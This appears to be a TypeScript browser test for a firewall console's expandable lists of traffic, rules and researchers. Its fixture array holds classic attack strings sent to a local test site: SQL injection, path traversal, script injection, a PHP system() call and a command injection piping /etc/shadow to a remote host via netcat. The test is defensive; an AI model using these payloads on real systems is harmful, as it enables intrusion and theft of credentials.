/** Where a list shows the first of many, the others are a click away: on the traffic, the firewall, the overview and a researcher's page. */
import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { eventually, untilRecorded } from '../support/installation.ts'
import { createSite } from '../support/site.ts'
import { violationsOf } from './support/accessibility.ts'
import { withoutChromium } from './support/chromium.ts'
import { type ConsoleUnderTest, openConsole, unexpected } from './support/console.ts'

const SITES = 9
const hostOf = (index: number): string => `shop-${index}.gate.localhost`
/** Of many rules, more than are listed at first. */
const ATTACKS = [
  "1' or 1=1 union select password from users --",
  '../../../../etc/passwd',
  '<script>alert(document.cookie)</script>',
  '; cat /etc/shadow | nc 10.0.0.1 4444',
  '<?php system("id"); ?>',
]

test('what is left out of a list can be opened', { skip: withoutChromium }, async (t) => {
  let it: ConsoleUnderTest
  before(async () => {
    it = await openConsole()
    const { installation } = it
    for (let index = 0; index < SITES; index += 1) {
      await createSite(installation, hostOf(index), it.origin.url)
      await installation.gate(hostOf(index), `/page/${index}`)
    }
    for (const attack of ATTACKS)
      await installation.gate(hostOf(0), `/search?q=${encodeURIComponent(attack)}`)
    await untilRecorded(installation, SITES + ATTACKS.length)
  })
  after(() => it.close())

  await t.test('the values of a field beside the traffic', async () => {
    const { page } = it
    await it.visit('/traffic')
    const values = page.getByRole('region', { name: 'Filter by value' })
    await values.getByRole('button', { name: 'View all values of Site' }).click()
    const table = page.getByRole('table', { name: 'Requests by Site' })
    await table.getByRole('row').nth(SITES).waitFor()
    assert.equal(await table.getByRole('row').count(), SITES + 1)
    // Of a field with few values all are there already.
    assert.equal(await values.getByRole('button', { name: 'View all values of Method' }).count(), 0)
    assert.deepEqual(await violationsOf(page), [])
  })

  await t.test('the rules of the firewall, each of which can be shown alone', async () => {
    const { page } = it
    await it.visit('/firewall')
    const rules = page.getByRole('table', { name: 'Rules that matched' })
    await rules.waitFor()
    const listed = await rules.getByRole('row').count()
    await page
      .getByRole('button', { name: /^Show \d+ more$/ })
      .first()
      .click()
    assert.ok((await rules.getByRole('row').count()) > listed)
    await page.getByRole('button', { name: 'Show fewer' }).click()
    assert.equal(await rules.getByRole('row').count(), listed)
    const series = () =>
      page
        .getByRole('group', { name: /^Firewall hits over time/ })
        .locator('path')
        .count()
    const all = await series()
    const mark = rules.getByRole('button', { name: /^Show only / }).first()
    await mark.click()
    await eventually(async () => (await series()) === 1)
    assert.equal(await mark.getAttribute('aria-pressed'), 'true')
    await mark.click()
    await eventually(async () => (await series()) === all)
    assert.ok(all > 1)
    assert.deepEqual(await violationsOf(page), [])
    await page.getByRole('region', { name: 'By route' }).getByRole('link', { name: 'View all' }).click()
    await page.getByRole('table', { name: 'Requests by Route' }).waitFor()
  })

  await t.test('the sites of a researcher, with the way to stop them at each', async () => {
    const { page, installation } = it
    await it.visit(`/researchers/${installation.firstRun.researcher.id}`)
    const sites = page.getByRole('region', { name: 'Sites', exact: true })
    await sites.getByRole('button', { name: 'Show 3 more' }).click()
    await sites
      .getByRole('button', { name: /^Stop here/ })
      .nth(SITES - 1)
      .waitFor()
    assert.equal(await sites.getByRole('listitem').count(), SITES)
  })

  await t.test('who sent most, on the first page', async () => {
    const { page } = it
    await it.visit('/')
    const panel = page.getByRole('region', { name: 'Most active researchers' })
    await panel.getByRole('link', { name: 'View all' }).click()
    await page.getByRole('table', { name: 'Requests by Researcher' }).waitFor()
    assert.deepEqual(unexpected(it.browser.faults), [])
  })
})
